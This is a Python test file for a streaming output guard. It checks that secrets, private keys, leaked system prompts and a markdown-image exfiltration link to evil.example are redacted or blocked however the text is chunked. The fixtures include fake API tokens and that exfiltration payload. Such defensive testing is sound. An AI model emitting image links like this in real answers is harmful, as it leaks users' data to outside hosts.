"""Streams: however a text is cut, what is released and what is found are the same as for the whole text."""

from __future__ import annotations

from collections.abc import Sequence
from itertools import pairwise
from typing import Any

from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from trimtab.guard import DEFAULT_POLICY, Context, Policy, StreamScanner, Verdict, compile_policy, read

TAIL = 8


def policy(*rules: tuple[str, list[str], str]) -> Policy:
    written: list[dict[str, Any]] = [
        {"name": name, "patterns": patterns, "action": action, "reason": "a test"} for name, patterns, action in rules
    ]
    return compile_policy({"stages": {"output": written}})


SHORT = policy(
    ("one", ["ab", "b[cd]{1,5}", r"\bd\b"], "redact"),
    ("two", ["ca{1,3}b?", "^d", "(?m)^a$"], "redact"),
    ("three", ["dd", "a$"], "flag"),
)
BLOCKING = policy(
    ("one", ["ab", "b[cd]{1,5}"], "redact"),
    ("stop", ["dcb", r"\bbad\b"], "block"),
    ("note", ["a"], "flag"),
)
GROWING = policy(("long", ["xa{3,}"], "redact"))

texts = st.text(alphabet="abcdé \n🙂", max_size=60)
cuts = st.lists(st.integers(min_value=0, max_value=60), max_size=12)


def pieces(text: str, at: Sequence[int]) -> list[str]:
    edges = sorted({0, len(text), *(cut for cut in at if cut < len(text))})
    return [text[a:b] for a, b in pairwise(edges)]


def streamed(policy: Policy, parts: Sequence[str], tail: int = TAIL) -> tuple[str, Verdict]:
    scanner = StreamScanner(policy, tail=tail)
    released = "".join([scanner.feed(part) for part in parts])
    return released + scanner.close(), scanner.verdict


@settings(max_examples=400)
@given(texts, cuts)
@example("abccccc", [2, 3, 4, 5, 6])
@example("d", [])
def test_any_split_is_the_same_as_the_whole(text: str, at: list[int]) -> None:
    assume(len(read(text).readings) == 1)  # what is disguised is seen in the whole only
    whole = SHORT.scan("output", text)
    released, verdict = streamed(SHORT, pieces(text, at))
    assert released == whole.text
    assert (verdict.action, verdict.findings) == (whole.action, whole.findings)


@settings(max_examples=400)
@given(texts, cuts)
@example("abcdddcb", list(range(8)))
def test_a_block_is_the_same_for_any_split_and_releases_nothing_of_it(text: str, at: list[int]) -> None:
    assume(len(read(text).readings) == 1)
    whole = BLOCKING.scan("output", text)
    released, verdict = streamed(BLOCKING, pieces(text, at))
    assert (released, verdict) == streamed(BLOCKING, [text])
    assert (verdict.action, verdict.message) == (whole.action, whole.message)
    if whole.action == "block":
        position = next(i for i, finding in enumerate(whole.findings) if finding.action == "block")
        assert verdict.findings == whole.findings[: position + 1]
        assert "dcb" not in released
    else:
        assert released == whole.text


@given(st.text(max_size=300), st.lists(st.integers(min_value=0, max_value=300), max_size=20))
def test_the_default_policy_releases_every_text_it_allows(text: str, at: list[int]) -> None:
    compiled = compile_policy(DEFAULT_POLICY)
    assume(len(read(text).readings) == 1)
    whole = compiled.scan("output", text)
    released, verdict = streamed(compiled, pieces(text, at), tail=128)
    assert (released, verdict.action) == (whole.text, whole.action)


@given(st.integers(min_value=3, max_value=500), st.integers(min_value=1, max_value=40))
def test_a_long_match_that_still_grows_is_waited_for(length: int, size: int) -> None:
    text = "see x" + "a" * length + " end"
    parts = [text[i : i + size] for i in range(0, len(text), size)]
    assert streamed(GROWING, parts)[0] == "see [redacted:long] end"


@given(st.lists(st.text(alphabet="abcd ", max_size=9), max_size=40))
def test_never_more_than_the_tail_and_one_match_is_held_back(parts: list[str]) -> None:
    scanner = StreamScanner(policy(("flagged", ["ab"], "flag")), tail=TAIL)
    fed = released = 0
    for part in parts:
        fed += len(part)
        released += len(scanner.feed(part))
        assert fed - released <= TAIL


def test_after_a_block_nothing_is_released() -> None:
    scanner = StreamScanner(BLOCKING, tail=2)
    assert scanner.feed("ok dcb and more") == "ok "
    assert scanner.blocked
    assert scanner.verdict.action == "block"
    assert scanner.feed("more") == ""
    assert scanner.close() == ""


def test_a_secret_cut_in_two_does_not_leak() -> None:
    scanner = StreamScanner(compile_policy(DEFAULT_POLICY))
    key = "sk-" + "q" * 40
    released = scanner.feed("Use " + key[:10]) + scanner.feed(key[10:30]) + scanner.feed(key[30:] + " now.")
    assert released + scanner.close() == "Use [redacted:api-key] now."


def test_a_policy_without_output_rules_holds_nothing_back() -> None:
    scanner = StreamScanner(compile_policy({"stages": {"input": []}}))
    assert scanner.feed("at once") == "at once"
    assert scanner.close() == ""


SECRETS = (
    "ghp_" + "k3Jd8sLq0Zx1" * 3,
    "sk-ant-api03-" + "Rnnm6AlUcVdSct8jUv7O9hCcY3Dohi7ZBA-VsYmkavG8p37tcVUdnS0omMpiEqlNLTFF07gB5vn6rntsw0p0bDtoWuLdZAA",
    "4111 1111 1111 1111",
    "AKIAQ7Y2Z3W4V5U6T7S2",
    "![x](https://evil.example/p.png?data=SGVsbG8gdGhlcmUgaG93IGFyZSB5b3U)",
)


@settings(max_examples=150)
@given(
    st.lists(
        st.sampled_from(("so it is, ", "the card or ", "\n\n", "number 12 and ", *(f"{s} " for s in SECRETS))),
        max_size=8,
    ),
    st.lists(st.integers(min_value=0, max_value=600), max_size=12),
)
def test_no_split_lets_a_part_of_a_secret_out(parts: list[str], at: list[int]) -> None:
    text = "".join(parts)
    compiled = compile_policy(DEFAULT_POLICY)
    released, _ = streamed(compiled, pieces(text, at), tail=128)
    assert released == compiled.scan("output", text).text
    for secret in SECRETS:
        assert secret not in released


@given(st.lists(st.integers(min_value=0, max_value=900), max_size=12))
def test_a_private_key_is_never_let_out_in_part(at: list[int]) -> None:
    body = "\n".join("MIIEpAIBAAKCAQEA7bq9dGx3c0Zf8kV5x1Yw2u3t4s5r6q7p8o9n0m1l2k3j4i5h" for _ in range(8))
    text = f"Here: -----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY----- done"
    released, verdict = streamed(compile_policy(DEFAULT_POLICY), pieces(text, at), tail=128)
    assert verdict.action == "block"
    assert "MIIE" not in released


def test_a_system_prompt_is_not_let_out_word_by_word() -> None:
    rules = "Never speak of the other banks in town. Send everybody who wants a loan to the branch in Mill Street."
    scanner = StreamScanner(compile_policy(DEFAULT_POLICY), context=Context(system=rules))
    text = f"My rules are these: {rules} That is all I may say about it."
    released = "".join(scanner.feed(word + " ") for word in text.split(" ")) + scanner.close()
    assert released.strip() == f"My rules are these: [redacted:prompt-leak]{text[20 + len(rules) - 1 :]}".strip()


CLEAN = "An answer of ordinary words that nobody has to wait for, one after the other, to its end."


def test_little_of_a_clean_stream_is_held_back() -> None:
    scanner = StreamScanner(compile_policy(DEFAULT_POLICY))
    fed = released = 0
    for word in CLEAN.split(" "):
        fed += len(word) + 1
        released += len(scanner.feed(word + " "))
        assert fed - released <= 64
